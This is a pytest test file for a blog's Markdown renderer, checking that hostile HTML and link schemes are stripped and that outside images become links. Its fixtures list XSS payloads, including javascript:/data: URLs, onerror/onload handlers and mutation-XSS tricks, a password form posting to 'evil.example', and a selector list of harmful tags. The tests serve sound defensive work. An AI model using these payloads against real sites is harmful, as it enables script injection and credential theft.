"""Markdown as people write it, and as those write it who mean harm."""

import pytest

from tests.fixtures.writing import publish

ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "&#106;avascript:alert(1)",
    "vbscript:x",
    "data:text/html,<script>alert(1)</script>",
]
ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<iframe src='/'></iframe>",
    "<p style='position: fixed' onclick='alert(1)'>words</p>",
    "<form action='https://evil.example'><input name=password></form>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
]
HARMFUL = "script, iframe, form, style, [onerror], [onload], [onclick], [style]"


def test_markdown_becomes_html(browser, ann):
    post = publish(ann, body="Ink *on* paper, and `ink < paper`.")
    page = browser.visit(post.path)

    assert page.text(".prose em") == "on"
    assert page.text(".prose code") == "ink < paper"


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_runs_something_is_taken_out(browser, ann, attack):
    post = publish(ann, body=f"Before {attack} after\n\n{attack}")
    [prose] = browser.visit(post.path).select(".prose")

    assert not prose.select(HARMFUL)


@pytest.mark.parametrize("address", ADDRESSES)
def test_a_link_that_runs_something_is_no_link(browser, ann, address):
    post = publish(ann, body=f'[words]({address}) <a href="{address}">words</a>')

    assert not browser.visit(post.path).select(".prose a[href]")


def test_a_picture_from_elsewhere_is_a_link(browser, ann):
    post = publish(ann, body="![A heron](https://elsewhere.example/heron.png)")
    page = browser.visit(post.path)

    assert not page.select(".prose img")
    assert page.text(".prose a") == "A heron"


def test_what_an_older_renderer_made_is_made_again(app, essay):
    essay.renderer = 0
    said = app.test_cli_runner().invoke(args=["posts", "rerender"])

    assert said.output == "1 posts were rendered again.\n"
